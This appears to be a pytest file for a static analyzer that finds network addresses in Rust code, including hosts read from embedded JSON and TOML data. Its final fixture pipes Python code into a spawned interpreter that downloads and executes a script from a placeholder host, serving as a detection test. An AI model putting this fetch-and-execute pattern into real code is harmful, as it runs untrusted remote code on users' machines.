"""Addresses that stand in data which the crate reads: JSON and TOML texts that are known."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from analyzer.model import Fact, FactKind

FactsOf = Callable[..., list[Fact]]
HOST = "a.invalid:443"
KNOWN = {
    "fields of own types": """
        #[derive(serde::Deserialize)] struct S { m: M } #[derive(serde::Deserialize)] struct M { host: String }
        pub fn go() { let s: S = serde_json::from_str(r#"{"m":{"host":"a.invalid:443"}}"#).unwrap(); std::net::TcpStream::connect(s.m.host).ok(); }""",
    "keys and places": """
        pub fn go() { let v: serde_json::Value = serde_json::from_str(r#"{"h":["x","a.invalid:443"]}"#).unwrap(); std::net::TcpStream::connect(v["h"][1].as_str().unwrap()).ok(); }""",
    "taken apart": """
        struct M { host: String }
        pub fn go() { let M { host } = serde_json::from_slice::<M>(br#"{"host":"a.invalid:443"}"#).unwrap(); std::net::TcpStream::connect(host).ok(); }""",
    "TOML": """
        struct M { host: String }
        pub fn go() { let m: M = toml::from_str("host = 'a.invalid:443'").unwrap(); std::net::TcpStream::connect(&m.host).ok(); }""",
}
UNKNOWN = {
    "a broken text": """
        pub fn go() { let v: serde_json::Value = serde_json::from_str("{").unwrap(); std::net::TcpStream::connect(v["h"].as_str().unwrap()).ok(); }""",
    "a text of the caller": """
        pub fn go(t: &str) { let v: serde_json::Value = serde_json::from_str(t).unwrap(); std::net::TcpStream::connect(v["h"].as_str().unwrap()).ok(); }""",
    "a key that is not there": """
        pub fn go() { let v: serde_json::Value = serde_json::from_str(r#"{"h":"b"}"#).unwrap(); std::net::TcpStream::connect(v["x"].as_str().unwrap()).ok(); }""",
}


def hosts(facts: list[Fact]) -> list[str]:
    return [one.subject for one in facts if one.kind is FactKind.NET_CONNECT]


@pytest.mark.parametrize("source", KNOWN.values(), ids=KNOWN)
def test_what_a_known_text_says(facts_of: FactsOf, source: str) -> None:
    assert hosts(facts_of(source, "src/lib.rs")) == [HOST]


@pytest.mark.parametrize("source", UNKNOWN.values(), ids=UNKNOWN)
def test_what_is_not_there_is_unknown(facts_of: FactsOf, source: str) -> None:
    assert hosts(facts_of(source, "src/lib.rs")) == ["unknown"]


def test_text_on_the_input_of_an_interpreter_is_read_as_its_language(facts_of: FactsOf) -> None:
    source = """
        use std::io::Write; use std::process::{Command, Stdio};
        pub fn go() {
            let mut child = Command::new("python3").arg("-").stdin(Stdio::piped()).spawn().unwrap();
            child.stdin.take().unwrap().write_all(b"import urllib.request as u\\nexec(u.urlopen('https://a.invalid/x.py').read())\\n").ok();
        }"""
    assert "https://a.invalid/x.py" in hosts(facts_of(source, "src/lib.rs"))
